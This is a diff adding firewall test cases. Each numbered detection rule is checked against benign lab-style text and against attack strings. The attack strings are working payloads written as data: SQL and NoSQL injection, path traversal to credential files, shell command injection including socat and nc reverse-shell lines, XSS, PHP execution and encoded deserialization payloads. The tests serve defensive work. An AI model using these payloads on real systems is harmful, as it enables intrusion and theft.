@@ -168,6 +168,192 @@ const CASES: Case[] = [
     benign: ["9'union all/bar", "the 'union' of both sets"],
     attack: ["' union select password from users", "x')) UNION ALL SELECT NULL,NULL--", "1' union distinct (select 1)"],
   },
+  {
+    rule: 3008,
+    why: "a system path counts from the root or a word start; a project folder named etc does not",
+    benign: ["see results/etc/summary.tsv", "data/var/log2_values.tsv", "genes, proteins, etc.", "user.profile settings"],
+    attack: ["/etc/shadow-", "file=../../etc/nginx/nginx.conf", "/proc/1/cmdline", "C:\\Windows\\system32\\config\\SAM", "~/.bash_history"],
+  },
+  {
+    rule: 3009,
+    why: "a dot-dot segment counts here only when a dot or separator is encoded; plain ../ is 3001/3002's",
+    benign: ["../data/raw", "v1.2.3/notes", "0x2e is a full stop"],
+    attack: ["0x2f0x2e0x2e0x2f", "/.%252e/", "\\..%u2216", "/%uff0e%uff0e/"],
+  },
+  {
+    rule: 3105,
+    why: "a remote-inclusion probe is one token: a scheme name or URL ended by `?`",
+    benign: ["which file formats are supported?", "https is required?", "file"],
+    attack: ["ftp?", "https://203.0.113.9/x.txt?", "file:x??"],
+  },
+  {
+    rule: 4002,
+    why: "a word-like command after a separator counts with a Windows drive path or %VAR% argument too",
+    benign: ["copy of the data; type 2 diabetes"],
+    attack: ["& type c:\\boot.ini", "| dir C:\\Users", "; type %SYSTEMROOT%"],
+  },
+  {
+    rule: 4016,
+    why: "FOR takes options and a set with nested parentheses; IF compares quoted operands with spaces",
+    benign: ["for each sample in (A, B) do the PCR", "if the p value == 0.05 rerun"],
+    attack: ["for/d %x in (*) do rd %x", "FOR /F \"skip=1 tokens=2\" %i IN ('wmic os get (x)') DO set v=%i", "if \"%~a b%\"==\"c d\" exit"],
+  },
+  {
+    rule: 4024,
+    why: "a command-only name opening the value counts with shell-shaped arguments, not with words",
+    benign: ["curl up to 3 reads per locus", "ssh keys are rotated monthly", "docker image for the pipeline", "pip install biopython"],
+    attack: ["ansible-playbook deploy.yml", "visudo\n", "chmod 4755 /tmp/x", "kubectl get secrets -A", "socat tcp:203.0.113.5:4444 exec:sh"],
+  },
+  {
+    rule: 4025,
+    why: "tilde and history expansion count inside a command line, not as bare values or in prose",
+    benign: ["~-", "!!", "ΔG (~-5 kcal/mol)", "wow!! 5 reads"],
+    attack: ["id;~+2", "ls|~-", "x; !-1", "$((0))ls -la"],
+  },
+  {
+    rule: 4026,
+    why: "empty quotes or substitutions glued inside a word are shell evasion; markdown code spans are not",
+    benign: ["use ``code`` here", "He said \"\"hello\"\"", "don't"],
+    attack: ["w\"\"h\"\"oami", "c''at /etc/hosts", "who$()ami", "uname${} -a", "wh`x`oami"],
+  },
+  {
+    rule: 4027,
+    why: "sqlite3 dot-commands count after a statement separator or line break",
+    benign: [".shell is a dot-command", "version 2.dump"],
+    attack: ["x;.shell id", "1\n.system cat /etc/hosts", "a; .dump", "1;.\\\"system id"],
+  },
+  {
+    rule: 4028,
+    why: "process substitution needs a command inside; arithmetic `$[…]` is shell-only",
+    benign: ["values >(mean) were kept", "p >(0.05)"],
+    attack: [">(nc 203.0.113.5 80)", "<(cat /etc/hosts)", "echo $[7*7]"],
+  },
+  {
+    rule: 4029,
+    why: "sleep probes, ps, history, VAR=x cmd, echo > file and loops count after a shell separator only",
+    benign: ["Incubate; sleep 5 min", "history of the strain; see notes", "a=1; b=2; c=3"],
+    attack: ["x; sleep 10", "| ps aux", "&& history", ";IFS=, cat /etc/hosts", "; echo x >> /var/www/a.php", "; for f in *; do cat $f; done"],
+  },
+  {
+    rule: 5016,
+    why: "a PHP-only dangerous function called, or any callee with a comment before its parenthesis",
+    benign: ["the file #1 (see)", "json_encode($x)", "A loaded gun (unserialized)", "subprocess.popen(cmd)"],
+    attack: ["shell_exec ('id')", "file_put_contents/**/('x.php', $d)", "system //c\n('id')", "call_user_func #x\n ('system', 'id')"],
+  },
+  {
+    rule: 5018,
+    why: "[php] blocks run their body; a `<?` processing instruction is not PHP",
+    benign: ["<?xml-stylesheet href='a.xsl'?>", "[phpBB] forum"],
+    attack: ["[php]echo 1;[/php]", "[ \\php ]"],
+  },
+  {
+    rule: 5019,
+    why: "a variable called as a function; R's df$col and PHP's $a[] append are not calls",
+    benign: ["df$value(1)", "$a[]()", "$5 (per sample)", "$HOME (default)"],
+    attack: ["$f('id')", "$cb(\"x\")", "$x[0]('ls')", "$_q #c\n[1] /**/ ('id')", "$HTTP_POST_VARS", "$argv"],
+  },
+  {
+    rule: 5020,
+    why: "PHP ini directives set as name=value; generic setting names are not",
+    benign: ["user_agent=curl", "default_charset=utf-8", "cgi bin"],
+    attack: ["cgi.fix_pathinfo=1", "allow_call_time_pass_reference = On", "mysql.allow_local_infile=1"],
+  },
+  {
+    rule: 5516,
+    why: "Node.js internals by property or bracket access and synchronous fs calls; prose citations are not",
+    benign: ["Process [12] described above", "main [2] results", "console output was saved", "require.js"],
+    attack: ["require.cache", "global['process']", "readFileSync('/etc/hosts')", "module.exports = x", "process.mainModule"],
+  },
+  {
+    rule: 5517,
+    why: "a base64 token is decoded; DNA, protein and lower-case identifiers are not base64 payloads",
+    benign: ["ACGTACGTACGTACGTACGT", "MKTAYIAKQRQISFVKSHFSRQ", "construct_14_v2_backup"],
+    attack: [btoa("_$$ND_FUNC$$_function(){}"), btoa("require('child_process').exec('id')"), btoa('{"__proto__":{"x":1}}')],
+  },
+  {
+    rule: 6016,
+    why: "tag names spelled out letter by letter, cross-window location, comment/CDATA breakout",
+    benign: ["a < b c d", "parent location unknown", "location.reload"],
+    attack: ["< i m g src=x>", "<s c r i p t>", "top.location='//x'", "<!--", "<![CDATA[", "v b s c r i p t:msgbox(1)"],
+  },
+  {
+    rule: 6017,
+    why: "a DOM event name starting the value or after a closing quote; clinical `onset=` is not one",
+    benign: ["onset=5 days", "onboarding='done'", "'done' onward"],
+    attack: ["onfocus=alert(1)", "\" onpointerenter=x()", "' ontoggle=prompt()"],
+  },
+  {
+    rule: 6018,
+    why: "markup behind JavaScript escapes is markup",
+    benign: ["\\x41\\x42 are hex escapes"],
+    attack: ["\\x3cscript\\x3e", "\\u003cimg src=x onerror=alert(1)\\u003e", "java\\u0073cript:alert(1)"],
+  },
+  {
+    rule: 6019,
+    why: "backslash-escaped CSS keywords read as the plain ones",
+    benign: ["import the data; bind the antibody"],
+    attack: ["@im\\port url(//x/a.css)", "-m\\oz-binding: url(x.xml#y)"],
+  },
+  {
+    rule: 7024,
+    why: "SQL-only functions called bare; a space before `(` needs a SQL-shaped argument",
+    benign: ["json_normalize(records)", "df.to_json(x)", "the likelihood (the model)", "pg_ subset (see table)"],
+    attack: ["extractvalue(1,concat(0x7e,version()))", "group_concat(table_name)", "pg_read_file ('x')", "utc_timestamp()"],
+  },
+  {
+    rule: 7025,
+    why: "catalog tables, charset switches, UNION…SELECT with words between",
+    benign: ["Union of gene sets selected for analysis", "I like (you)"],
+    attack: ["x) like (y", "1 union distinctrow all select 2", "exec master..xp_dirtree", "alter table t convert to character set latin1", "select pg_sleep"],
+  },
+  {
+    rule: 7026,
+    why: "MongoDB operators where a plain value belongs",
+    benign: ["$existsor", "price $5 or $6", "{\"gte\": 2015}"],
+    attack: ["$ne", "a[$gt]", "{\"$where\": \"sleep(100)\"}", "x $jsonSchema y"],
+  },
+  {
+    rule: 7027,
+    why: "overflow probes are whole values",
+    benign: ["42147483647", "chr4:2147483648-2147483700"],
+    attack: ["-2147483649", "4294967296", "1e309"],
+  },
+  {
+    rule: 7028,
+    why: "a statement opening the value after `;`, or glued to a bracket",
+    benign: ["Incubate; select the channel", "insert the tip; update the sheet"],
+    attack: [";select 1", "; shutdown", "x;drop(users)", "a; delete[users"],
+  },
+  {
+    rule: 7029,
+    why: "a quoted JSON literal with a JSON operator; an arrow in prose is not",
+    benign: ["Find your solution here -> link", "'{\"a\":1}' is JSON"],
+    attack: ["'{\"a\":1}' ?| array['a']", "x = '[1,2]'::jsonb @> '[1]'", "data #>> '{a,b}'"],
+  },
+  {
+    rule: 7030,
+    why: "MySQL executable comments and comments splitting a keyword; path globs are not",
+    benign: ["data/*/reads/*/x", "/* plain comment */"],
+    attack: ["/*!50000 union*/", "sel/**/ect", "/*+ index(t) */"],
+  },
+  {
+    rule: 7031,
+    why: "a one-word value cut by quote-semicolon, or quote-operator-trailing comment",
+    benign: ["Siobhán O'Brien", "bob's or alice's", "x'@email--", "5'-ACGT-3' #2"],
+    attack: ["user@example.org';", "x' or 1--", "a\" ||x#", "y'-0--"],
+  },
+  {
+    rule: 7032,
+    why: "Oracle network/file packages and MSSQL OLE DB providers",
+    benign: ["utility http client", "dbms table"],
+    attack: ["utl_inaddr", "dbms_pipe", "openrowset('SQLOLEDB','x')"],
+  },
+  {
+    rule: 9005,
+    why: "the Java serialization magic in base64 at any of the three byte offsets",
+    benign: ["KztA", "Cs7Q dataset"],
+    attack: ["xKztAAUc", "Cs7QAFz4", "rO0ABXNy"],
+  },
 ];
 
 describe("rules match attack syntax, not the words it is made of", () => {
@@ -224,6 +410,78 @@ describe("rule 8001: session parameters are framework session names, not every `
   });
   it("catches session ids of web frameworks", () => {
     for (const name of ["jsessionid", "PHPSESSID", "_flask_session", "session_id", "user_session_token", "connect.sid"]) {
+      expect(fires(8001, query("abc123", name))).toBe(true);
+    }
+  });
+});
+
+describe("rule 3007: scanner targets are build manifests, credentials and dumps, never an app route", () => {
+  const path = (p: string): WafInput => ({ ...query("x"), path: p });
+  it("leaves app routes and static assets alone", () => {
+    for (const p of ["/api/datasets/config-study", "/_next/static/chunks/main.js", "/datasets/package-insert", "/api/pipelines/run"]) {
+      expect(fires(3007, path(p))).toBe(false);
+    }
+  });
+  it("catches manifests, credential files and database dumps", () => {
+    for (const p of ["/package.json", "/app/config_prod.yml", "/backup/site.sql.gz", "/WEB-INF/web.xml", "/sites/default/settings.php"]) {
+      expect(fires(3007, path(p))).toBe(true);
+    }
+  });
+});
+
+describe("rule 1038: browsers never send RFC 2965 cookie attributes back", () => {
+  const cookie = (c: string): WafInput => ({ ...query("x"), headers: { ...query("x").headers, cookie: c } });
+  it("leaves ordinary cookies (a `$` inside a value included) alone", () => {
+    expect(fires(1038, cookie("theme=dark; price=$5"))).toBe(false);
+  });
+  it("catches $Version, $Path and $Domain", () => {
+    expect(fires(1038, cookie("$Version=1; sid=\"a; b=c\""))).toBe(true);
+    expect(fires(1038, cookie("a=b; $Path=/"))).toBe(true);
+  });
+});
+
+describe("rule 1039: a Content-Type has registered parameters and tight spacing (RFC 9110 §8.3)", () => {
+  const ct = (v: string): WafInput => ({
+    method: "POST",
+    path: "/api/datasets",
+    rawQuery: "",
+    headers: { host: "localhost", "content-type": v },
+    body: { contentType: v, text: "{}" },
+  });
+  it("leaves what browsers and API clients send alone", () => {
+    for (const v of [
+      "application/json",
+      "application/json; charset=UTF-8",
+      "text/plain;charset=UTF-8",
+      "multipart/form-data; boundary=----WebKitFormBoundaryx7Yz",
+      'multipart/form-data; boundary="----=_Part_0_1"',
+    ]) {
+      expect(fires(1039, ct(v))).toBe(false);
+    }
+  });
+  it("catches unknown parameters and loose spacing", () => {
+    expect(fires(1039, ct("multipart/form-data; boundary=  abc"))).toBe(true);
+    expect(fires(1039, ct("application/json; x-smuggle=1"))).toBe(true);
+  });
+});
+
+describe("rule 5008: an uploaded script extension may carry any PHP version digits", () => {
+  const upload = (name: string): WafInput => ({ ...query("x"), headers: { ...query("x").headers, "x-filename": name } });
+  it("leaves data files alone", () => {
+    expect(fires(5008, upload("reads_R1.fastq.gz"))).toBe(false);
+  });
+  it("catches php, php7, php56 and phpt", () => {
+    for (const n of ["shell.php", "a.php7", "a.php56", "t.phpt"]) expect(fires(5008, upload(n))).toBe(true);
+  });
+});
+
+describe("rule 8001: framework session cookie conventions as parameters", () => {
+  it("leaves lab names alone", () => {
+    expect(fires(8001, query("x", "lab_session"))).toBe(false);
+    expect(fires(8001, query("x", "sess_count"))).toBe(false);
+  });
+  it("catches Rails, Drupal, WordPress, Moodle and signed-cookie names", () => {
+    for (const name of ["_myapp_session", "SESS0123456789abcdef0123", "wordpress_logged_in_0123456789abcdef", "MoodleSession", "koa:sess"]) {
       expect(fires(8001, query("abc123", name))).toBe(true);
     }
   });
